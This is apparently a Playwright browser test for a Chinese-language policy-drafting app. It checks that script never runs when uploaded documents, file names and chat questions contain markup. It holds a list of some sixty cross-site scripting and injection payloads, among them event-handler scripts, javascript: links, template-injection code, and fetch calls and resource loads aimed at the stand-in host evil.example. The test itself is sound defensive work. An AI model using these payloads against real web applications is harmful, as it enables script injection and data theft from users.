"""Nothing that comes from outside runs: markup in file names, documents, questions, head data, replies."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.serving import Served, serving

from .conftest import Visit
from .test_jobs import SLOW, tab

pytestmark = pytest.mark.browser
CORES = [
    "<script>{x}</script>", "<img src=x onerror={x}>", "<svg onload={x}>", "<body onload={x}>",
    "<iframe src=javascript:{x}>",
    "<a href=javascript:{x}>点</a>", "<details open ontoggle={x}>", "<video src=x onerror={x}>",
    "<math><mi onclick={x}>",
    "<style>@import 'http://evil.example/s.css'</style>", "<link rel=stylesheet href=http://evil.example/l.css>",
    "<img src=http://evil.example/i.png>", "![i](http://evil.example/m.png)", "[点](javascript:{x})",
    "<object data=http://evil.example/o>", "<embed src=http://evil.example/e>", "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<form action=http://evil.example/><button>b</button>",
    "\"><script>{x}</script>", "'-{x}-'", "</textarea><script>{x}</script>", "{{{{constructor.constructor('{x}')()}}}}",
    "<input autofocus onfocus={x}>", "<marquee onstart={x}>", "<audio src=x onerror={x}>", "<table background=http://evil.example/t>",
    "<div style='background:url(http://evil.example/d)'>", "<x onclick={x}>", "&lt;script&gt;{x}&lt;/script&gt;",
]
PAYLOADS = [core.replace("{x}", f"window.ran{i}=1") for i, core in enumerate(CORES)] + [
    core.replace("{x}", f"alert({i})").upper() if i % 2 else core.replace("{x}", f"fetch(\"http://evil.example/{i}\")")
    for i, core in enumerate(CORES)]


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serving(tmp_path_factory.mktemp("markup")) as it:
        yield it


def quiet(seen: Visit) -> None:
    ran = seen.page.evaluate("Object.keys(window).filter(k => k.startsWith('ran') && /^ran\\d+$/.test(k))")
    hosts = {urlsplit(url).hostname for url in seen.requests if url.startswith("http")}
    assert (ran, seen.dialogs, hosts - {"127.0.0.1"}) == ([], [], set())


def document(folder: Path) -> Path:
    """A plan whose title and clauses are the payloads, under a file name that is one too."""
    body = "\n".join(f"{i}.行政执法培训每年不少于60学时{payload}" for i, payload in enumerate(PAYLOADS, 1))
    file = folder / "<img src=x onerror=window.ran99=1>.txt"
    file.write_text(f"棠川区实施方案<img src=x onerror=window.ran98=1>\n一、总体要求\n{body}\n", encoding="utf-8")
    return file


def add(page: Page, file: Path) -> None:
    tab(page, "文库")
    page.locator("#library-files input[type=file]").set_input_files(file)
    page.wait_for_timeout(500)
    page.locator("#library-add").click()
    expect(page.locator("#library-documents")).to_contain_text("棠川区实施方案", timeout=SLOW)


def test_sixty_payloads_do_nothing(served: Served, visit: Callable[[str], Visit], tmp_path: Path) -> None:
    assert len(PAYLOADS) >= 60
    seen = visit(served.url)
    page = seen.page
    add(page, document(tmp_path))
    page.locator("#library-documents").get_by_text("棠川区实施方案").first.click()
    expect(page.locator("#library-outline")).to_contain_text("60学时", timeout=SLOW)
    quiet(seen)
    tab(page, "起草")
    for payload in PAYLOADS[::6]:
        page.locator("#draft-say textarea, #draft-say input").fill(f"执法培训多少学时{payload}")
        page.keyboard.press("Enter")
        expect(page.locator("#draft-say textarea, #draft-say input")).to_have_value("", timeout=SLOW)
    expect(page.locator("#draft-sources")).to_contain_text("60学时", timeout=SLOW)
    quiet(seen)
    tab(page, "审核")
    page.reload()
    tab(page, "审核")
    page.locator("#review-draft input").first.click()
    page.get_by_role("option").filter(has_text="棠川区实施方案").first.click()
    page.locator("#review-check").click()
    expect(page.locator("#review-status textarea, #review-status input")).not_to_have_value("", timeout=SLOW)
    rows = page.locator("#review-findings tbody tr")
    if rows.count():
        rows.first.locator("td").nth(1).click()
        page.wait_for_timeout(1500)
    quiet(seen)
